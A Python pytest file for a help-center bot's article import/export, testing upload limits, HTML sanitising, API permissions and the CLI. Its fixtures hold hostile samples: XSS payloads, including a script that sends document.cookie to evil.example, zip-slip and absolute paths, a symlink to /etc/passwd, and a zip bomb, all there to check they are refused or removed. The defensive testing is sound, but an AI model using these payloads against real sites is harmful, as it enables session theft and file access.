"""Bulk import/export of articles: parsing limits, sanitising, the API and the CLI (issue #6)."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest

from bot.cli.main import main
from bot.helpcenter.article_io import (
    ImportLimits,
    export_jsonl,
    export_path,
    export_zip,
    parse_path,
    parse_upload,
)
from bot.settings import Settings
from bot.wiring import Services
from escalation.types import AgentRole
from retrieval.interfaces import Embedder
from retrieval.types import Article
from tests.api.conftest import PASSWORD, api_settings, start
from tests.conftest import KB_FIXTURE
from tests.live_server import LiveServer

LIMITS = ImportLimits(
    max_upload_bytes=200_000,
    max_unpacked_bytes=400_000,
    max_files=20,
    max_file_bytes=20_000,
    max_article_chars=10_000,
)
EVIL = (
    "---\ntitle: Evil <script>alert(1)</script> title\nid: evil\n---\n"
    'Hello <img src=x onerror=alert(1)> and <a href="javascript:alert(2)">click</a>.\n\n'
    "<script>\ndocument.location='https://evil.example/?c='+document.cookie\n</script>\n\n"
    '<iframe src="https://evil.example"></iframe>\n\n## Safe part\n\nStill **here**.\n'
)
DANGER = ("<script", "onerror", "javascript:", "<iframe", "document.cookie")


def content(article: Article) -> tuple[object, ...]:
    """What an import must keep of an article."""
    return (
        article.id,
        article.title,
        article.body,
        article.category,
        article.locale,
        article.tags,
        article.url,
    )


def make_zip(files: dict[str, bytes | str], *, symlinks: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name in symlinks:
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def md(article_id: str, title: str = "A title", body: str = "Some body text.") -> str:
    return f"---\nid: {article_id}\ntitle: {title}\n---\n{body}\n"


# ---------------------------------------------------------------- parsing


def test_zip_and_jsonl_round_trip_the_fixture_kb() -> None:
    loaded = parse_path(KB_FIXTURE, LIMITS)
    assert not loaded.problems
    assert len(loaded.articles) == 8
    from_zip = parse_upload("kb.zip", export_zip(loaded.articles), LIMITS)
    from_jsonl = parse_upload("kb.jsonl", export_jsonl(loaded.articles).encode(), LIMITS)
    assert not from_zip.problems and not from_jsonl.problems
    expected = sorted(map(content, loaded.articles))
    assert sorted(map(content, from_zip.articles)) == expected
    assert sorted(map(content, from_jsonl.articles)) == expected
    # Exporting again gives the same bytes: nothing drifts on a second round trip.
    assert export_zip(from_zip.articles) == export_zip(loaded.articles)
    hostile = replace(loaded.articles[0], id="x", category="../../etc/Cron Jobs")
    assert export_path(hostile) == "etc-cron-jobs/x.md"


def test_translation_of_survives_markdown_zip_and_jsonl() -> None:
    hola = md("hola", "Hola").replace("title: Hola\n", "title: Hola\ntranslation_of: hello\n")
    loaded = parse_upload("hola.md", hola.encode(), LIMITS)
    assert not loaded.problems and loaded.articles[0].translation_of == "hello"
    from_zip = parse_upload("kb.zip", export_zip(loaded.articles), LIMITS)
    from_jsonl = parse_upload("kb.jsonl", export_jsonl(loaded.articles).encode(), LIMITS)
    assert [a.translation_of for a in (*from_zip.articles, *from_jsonl.articles)] == ["hello"] * 2
    plain = parse_upload("hello.md", md("hello").encode(), LIMITS).articles
    assert "translation_of" not in export_jsonl(plain) + export_zip(plain).decode("latin-1")


def test_single_markdown_html_and_text_files() -> None:
    single = parse_upload("../../etc/reset.md", md("reset-password").encode(), LIMITS)
    assert [a.id for a in single.articles] == ["reset-password"]
    assert single.articles[0].source == "reset.md"  # the client's path is never used
    page = b"<html><head><title>Gift cards</title></head><body><p>Cards never expire.</p>"
    html = parse_upload("gift-cards.html", page + b"<script>x()</script></body></html>", LIMITS)
    assert [(a.id, a.title, a.body) for a in html.articles] == [
        ("gift-cards", "Gift cards", "Cards never expire.")
    ]
    text = parse_upload("opening-hours.txt", b"Opening hours\n\nWe open at 9.", LIMITS)
    assert [(a.id, a.title) for a in text.articles] == [("opening-hours", "Opening hours")]


def test_broken_files_are_reported_and_the_rest_imported() -> None:
    upload = make_zip(
        {
            "good/ok.md": md("ok"),
            "bad/no-front-matter.md": "Just text without front matter.",
            "bad/yaml.md": "---\ntitle: [unclosed\n---\nbody\n",
            "bad/no-title.md": "---\nid: no-title\n---\nbody\n",
            "bad/bad-id.md": md("Not A Slug!"),
            "bad/notes.docx": b"PK\x03\x04 word",
            "images/logo.png": b"\x89PNG\r\n\x1a\n\x00\x00",
            "README.md": "# About this export",
            ".hidden/x.md": md("hidden"),
            "__MACOSX/._ok.md": b"\x00\x05\x16\x07",
        }
    )
    batch = parse_upload("kb.zip", upload, LIMITS)
    assert [a.id for a in batch.articles] == ["ok"]
    reasons = {p.path: p.reason for p in batch.problems}
    assert set(reasons) == {
        "kb.zip/bad/no-front-matter.md",
        "kb.zip/bad/yaml.md",
        "kb.zip/bad/no-title.md",
        "kb.zip/bad/bad-id.md",
        "kb.zip/bad/notes.docx",
    }
    assert "no front matter" in reasons["kb.zip/bad/no-front-matter.md"]
    assert "not valid YAML" in reasons["kb.zip/bad/yaml.md"]
    assert "no 'title'" in reasons["kb.zip/bad/no-title.md"]
    assert "not a slug" in reasons["kb.zip/bad/bad-id.md"]
    assert "unsupported file type '.docx'" in reasons["kb.zip/bad/notes.docx"]


def test_duplicate_ids_refuse_the_later_file() -> None:
    upload = make_zip(
        {
            "a/first.md": md("same", "First"),
            "b/second.md": md("same", "Second"),
            "rows.jsonl": json.dumps({"id": "other", "title": "Other", "text": "x"})
            + "\n"
            + json.dumps({"id": "same", "title": "Third", "text": "y"})
            + "\n",
        }
    )
    batch = parse_upload("kb.zip", upload, LIMITS)
    assert [(a.id, a.title) for a in batch.articles] == [("same", "First")]
    assert [p.path for p in batch.problems] == ["kb.zip/b/second.md", "kb.zip/rows.jsonl:2"]
    assert all("duplicate id 'same'" in p.reason for p in batch.problems)
    assert "kb.zip/a/first.md" in batch.problems[0].reason


def test_jsonl_is_all_or_nothing() -> None:
    rows = [
        {"id": "one", "title": "One", "text": "first"},
        {"id": "two", "title": "", "text": "no title"},
        {"id": "three", "title": "Three", "text": "third"},
    ]
    text = "".join(json.dumps(r) + "\n" for r in rows)
    batch = parse_upload("rows.jsonl", text.encode(), LIMITS)
    assert batch.articles == []
    assert [(p.path, p.reason) for p in batch.problems] == [
        ("rows.jsonl:2", "the title is required")
    ]
    broken = parse_upload(
        "rows.jsonl", b'{"id": "one", "title": "One", "text": "x"}\n{oops\n', LIMITS
    )
    assert broken.articles == []
    assert broken.problems[0].path == "rows.jsonl:2"
    assert "invalid JSON" in broken.problems[0].reason


def test_oversize_binary_and_non_utf8_files() -> None:
    upload = make_zip(
        {
            "big.md": md("big", body="x" * (LIMITS.max_file_bytes + 1)),
            "long.md": md("long", body="word " * 2_500),
            "binary.md": b"---\ntitle: t\n---\n\x00\x01\x02",
            "latin1.md": md("latin", body="caf\xe9").encode("latin-1"),
            "empty.md": b"",
            "fine.md": md("fine"),
        }
    )
    batch = parse_upload("kb.zip", upload, LIMITS)
    assert [a.id for a in batch.articles] == ["fine"]
    reasons = {p.path.removeprefix("kb.zip/"): p.reason for p in batch.problems}
    assert "over the 20,000-byte limit" in reasons["big.md"]
    assert "over the 10,000 limit" in reasons["long.md"]
    assert "binary file" in reasons["binary.md"]
    assert "not valid UTF-8" in reasons["latin1.md"]
    assert "empty" in reasons["empty.md"]
    too_big = parse_upload("kb.zip", b"0" * (LIMITS.max_upload_bytes + 1), LIMITS)
    assert too_big.articles == []
    assert "more than 200,000 bytes" in too_big.problems[0].reason


def test_zip_slip_absolute_paths_and_links_are_refused() -> None:
    upload = make_zip(
        {
            "../../outside.md": md("outside"),
            "docs/../../escape.md": md("escape"),
            "/etc/absolute.md": md("absolute"),
            "C:/windows.md": md("windows"),
            "link.md": "/etc/passwd",
            "fine.md": md("fine"),
        },
        symlinks=("link.md",),
    )
    batch = parse_upload("kb.zip", upload, LIMITS)
    assert [a.id for a in batch.articles] == ["fine"]
    reasons = {p.path.removeprefix("kb.zip/"): p.reason for p in batch.problems}
    assert "zip-slip" in reasons["../../outside.md"]
    assert "zip-slip" in reasons["docs/../../escape.md"]
    assert "absolute path" in reasons["/etc/absolute.md"]
    assert "absolute path" in reasons["C:/windows.md"]
    assert "symbolic link" in reasons["link.md"]


def test_archive_limits_refuse_the_whole_upload() -> None:
    many = make_zip({f"a{n}.md": md(f"a{n}") for n in range(LIMITS.max_files + 1)})
    batch = parse_upload("many.zip", many, LIMITS)
    assert batch.articles == []
    assert "over the 20-file limit" in batch.problems[0].reason
    # A zip bomb: small compressed, huge unpacked; reading stops at the limit.
    bomb = make_zip({f"b{n}.jsonl": b"\n" * 150_000 for n in range(4)})
    assert len(bomb) < 5_000
    batch = parse_upload("bomb.zip", bomb, LIMITS)
    assert batch.articles == []
    assert [(p.path, p.reason) for p in batch.problems] == [
        ("bomb.zip", "unpacks to more than 400,000 bytes; split it")
    ]
    assert (
        parse_upload("x.zip", b"not a zip", LIMITS)
        .problems[0]
        .reason.startswith("not a valid zip archive")
    )


def test_unsafe_html_is_removed_before_storing() -> None:
    page = (
        "<html><head><title>Page</title></head><body><h1>Page</h1>"
        "<p>Read &lt;script&gt;alert(1)&lt;/script&gt; carefully</p>"
        "<p onclick=x()>text</p><script>steal()</script></body></html>"
    )
    batch = parse_upload("kb.zip", make_zip({"evil.md": EVIL, "page.html": page}), LIMITS)
    assert not batch.problems
    for article in batch.articles:
        for bad in DANGER:
            assert bad not in article.body, (bad, article.body)
    evil = next(a for a in batch.articles if a.id == "evil")
    assert '<img src="x">' in evil.body
    assert "## Safe part\n\nStill **here**." in evil.body
    assert "script" not in next(a for a in batch.articles if a.id == "page").body
    nothing_left = parse_upload("s.md", b"---\ntitle: t\n---\n<script>x()</script>\n", LIMITS)
    assert nothing_left.problems[0].reason == "no text is left once unsafe HTML is removed"


# ---------------------------------------------------------------- API


@dataclass
class Site:
    services: Services
    live: LiveServer

    def client(self) -> httpx.Client:
        return httpx.Client(base_url=self.live.url, timeout=60)

    def login(self, client: httpx.Client, name: str) -> dict[str, str]:
        response = client.post("/api/agent/login", json={"name": name, "password": PASSWORD})
        assert response.status_code == 200, response.text
        return {"Authorization": f"Bearer {response.json()['token']}"}


def _site(embedder: Embedder, data_dir: Path) -> Iterator[Site]:
    settings = api_settings(
        data_dir,
        api={"rate_limit_per_ip": 100_000},
        editor={"max_import_bytes": 100_000, "max_import_files": 50},
    )
    services, live = start(settings, embedder)
    for name, role in [("ed", AgentRole.EDITOR), ("al", AgentRole.AGENT)]:
        anyio.run(services.escalator.agents.add, name, PASSWORD, role, name.title())
    with live:
        yield Site(services, live)
    anyio.run(services.aclose)


@pytest.fixture(scope="module")
def site(embedder: Embedder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    yield from _site(embedder, tmp_path_factory.mktemp("io"))


@pytest.fixture(scope="module")
def fresh(embedder: Embedder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    yield from _site(embedder, tmp_path_factory.mktemp("io-fresh"))


def upload(
    client: httpx.Client, headers: dict[str, str], name: str, data: bytes, publish: bool
) -> httpx.Response:
    return client.post(
        "/api/editor/import",
        files={"file": (name, data, "application/octet-stream")},
        data={"publish": "true" if publish else "false"},
        headers=headers,
    )


def editor_articles(client: httpx.Client, headers: dict[str, str]) -> dict[str, dict[str, Any]]:
    response = client.get("/api/editor/articles", headers=headers)
    assert response.status_code == 200, response.text
    return {a["id"]: a for a in response.json()["articles"]}


def test_api_round_trip_into_a_fresh_app(site: Site, fresh: Site) -> None:
    kb_zip = export_zip(parse_path(KB_FIXTURE, LIMITS).articles)
    with site.client() as client:
        ed = site.login(client, "ed")
        response = upload(client, ed, "kb.zip", kb_zip, publish=True)
        assert response.status_code == 200, response.text
        report = response.json()
        assert len(report["imported"]) == 8 and report["problems"] == []
        assert report["updated"] == [] and report["unchanged"] == []
        original = editor_articles(client, ed)
        assert {a["status"] for a in original.values()} == {"published"}
        assert {a["source"] for a in original.values()} == {"import"}
        versions = client.get("/api/editor/articles/refund-timing/versions", headers=ed).json()
        assert "imported from kb.zip/" in json.dumps(versions)
        exported = client.get("/api/editor/export", params={"format": "zip"}, headers=ed)
        assert exported.status_code == 200
        assert exported.headers["content-type"] == "application/zip"
        assert "attachment" in exported.headers["content-disposition"]
        again = upload(client, ed, "again.zip", exported.content, publish=True).json()
        assert again["unchanged"] == sorted(original) and again["updated"] == []
    with fresh.client() as client:
        ed = fresh.login(client, "ed")
        report = upload(client, ed, "export.zip", exported.content, publish=False).json()
        assert sorted(report["imported"]) == sorted(original) and report["problems"] == []
        copied = editor_articles(client, ed)
        keys = ("title", "body", "category", "locale", "tags", "url")
        for article_id, article in original.items():
            assert {k: copied[article_id][k] for k in keys} == {k: article[k] for k in keys}
            assert copied[article_id]["status"] == "draft"
        jsonl = client.get(
            "/api/editor/export", params={"format": "jsonl", "status": "all"}, headers=ed
        )
        assert jsonl.headers["content-type"].startswith("application/x-ndjson")
        rows = [json.loads(line) for line in jsonl.text.splitlines()]
        assert sorted(r["id"] for r in rows) == sorted(original)
        published = client.get("/api/editor/export", params={"format": "jsonl"}, headers=ed)
        assert published.text == ""  # the fresh app's copies are drafts


def test_api_update_reports_problems_and_keeps_the_good_files(site: Site) -> None:
    with site.client() as client:
        ed = site.login(client, "ed")
        first = upload(
            client, ed, "faq.md", md("faq-hours", "Hours", "We open at 9.").encode(), True
        )
        assert first.json()["imported"] == ["faq-hours"]
        before = client.get("/api/editor/articles/faq-hours", headers=ed).json()
        mixed = make_zip(
            {
                "faq.md": md("faq-hours", "Hours", "We open at 8 now."),
                "broken.md": "---\ntitle: [x\n---\nbody",
                "dup.md": md("faq-hours", "Again"),
                "../slip.md": md("slip"),
            }
        )
        report = upload(client, ed, "mixed.zip", mixed, publish=False).json()
        assert report["imported"] == [] and report["updated"] == ["faq-hours"]
        assert sorted(p["file"] for p in report["problems"]) == [
            "mixed.zip/../slip.md",
            "mixed.zip/broken.md",
            "mixed.zip/dup.md",
        ]
        after = client.get("/api/editor/articles/faq-hours", headers=ed).json()
        assert after["current_version"] == before["current_version"] + 1
        assert after["body"] == "We open at 8 now."
        assert after["has_unpublished_changes"] is True  # not published: still a draft change
        big = upload(client, ed, "big.jsonl", b"\n" * 100_001, publish=False)
        assert big.status_code == 200
        assert "more than 100,000 bytes" in big.json()["problems"][0]["reason"]
        binary = upload(client, ed, "x.md", b"\x00\x01\x02binary", publish=False).json()
        assert "binary file" in binary["problems"][0]["reason"]


def test_api_never_stores_or_serves_unsafe_html(site: Site) -> None:
    with site.client() as client:
        ed = site.login(client, "ed")
        report = upload(client, ed, "evil.md", EVIL.encode(), publish=True).json()
        assert report["imported"] == ["evil"], report
        stored = client.get("/api/editor/articles/evil", headers=ed).json()
        page = client.get("/help/evil")
        assert page.status_code == 200
        assert "Still <strong>here</strong>" in page.text
        for bad in DANGER:
            assert bad not in stored["body"] and bad not in stored["title"]
        assert "onerror" not in page.text and "javascript:alert" not in page.text
        assert "evil.example" not in page.text
        rendered = client.post("/api/editor/render", json={"markdown": EVIL}, headers=ed)
        assert rendered.status_code == 200
        html = rendered.json()["html"]
        assert "<h2>Safe part</h2>" in html
        for bad in DANGER:
            assert bad not in html


def test_editor_role_is_required(site: Site) -> None:
    with site.client() as client:
        agent = site.login(client, "al")
        refused = [
            upload(client, agent, "a.md", md("by-agent").encode(), publish=False),
            client.get("/api/editor/export", headers=agent),
            client.post("/api/editor/render", json={"markdown": "x"}, headers=agent),
        ]
        for response in refused:
            assert response.status_code == 403, response.text
            assert response.json()["error_code"] == "forbidden"
        assert "editor or admin" in refused[0].json()["detail"]
        assert client.get("/api/editor/export").status_code in (401, 403)
        assert (
            client.get(
                "/api/editor/articles/by-agent", headers=site.login(client, "ed")
            ).status_code
            == 404
        )


def test_api_imports_a_translation_with_its_original_and_refuses_a_bad_link(site: Site) -> None:
    hola = md("hola-mundo", "Hola").replace("---\n", "---\ntranslation_of: hello-world\n", 1)
    lost = md("perdido", "Perdido").replace("---\n", "---\ntranslation_of: no-such-id\n", 1)
    # The translation sorts first in the archive: the import writes originals first.
    files: dict[str, bytes | str] = {
        "a/hola.md": hola,
        "a/perdido.md": lost,
        "b/hello.md": md("hello-world", "Hello"),
    }
    with site.client() as client:
        ed = site.login(client, "ed")
        report = upload(client, ed, "t.zip", make_zip(files), publish=False).json()
        assert sorted(report["imported"]) == ["hello-world", "hola-mundo"]
        [problem] = report["problems"]
        assert problem["file"] == "t.zip/a/perdido.md"
        assert "'no-such-id', but there is no such article" in problem["reason"]
        articles = editor_articles(client, ed)
        assert articles["hola-mundo"]["translation_of"] == "hello-world"
        assert articles["hello-world"]["translation_of"] == ""


# ---------------------------------------------------------------- CLI


def test_cli_import_export_round_trip(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SUPPORTBOT_DATA_DIR", str(tmp_path / "data"))
    assert main(["articles", "import", str(KB_FIXTURE)]) == 0
    out = capsys.readouterr().out
    assert f"Imported {KB_FIXTURE}: 8 new, 0 updated, 0 unchanged (drafts)" in out
    assert main(["articles", "export", str(tmp_path / "out"), "--status", "all"]) == 0
    assert (
        main(["articles", "export", "--jsonl", str(tmp_path / "all.jsonl"), "--status", "all"]) == 0
    )
    capsys.readouterr()
    original = sorted(map(content, parse_path(KB_FIXTURE, LIMITS).articles))
    assert sorted(map(content, parse_path(tmp_path / "out", LIMITS).articles)) == original
    assert sorted(map(content, parse_path(tmp_path / "all.jsonl", LIMITS).articles)) == original
    # Importing the export changes nothing; a broken file fails the run with its reason.
    (tmp_path / "out" / "broken.md").write_text("no front matter", encoding="utf-8")
    assert main(["articles", "import", str(tmp_path / "out")]) == 1
    captured = capsys.readouterr()
    assert "0 new, 0 updated, 8 unchanged" in captured.out
    assert "error: broken.md: no front matter" in captured.err
    assert "1 file(s) were not imported" in captured.err
    assert Settings().editor.max_import_files == 2_000
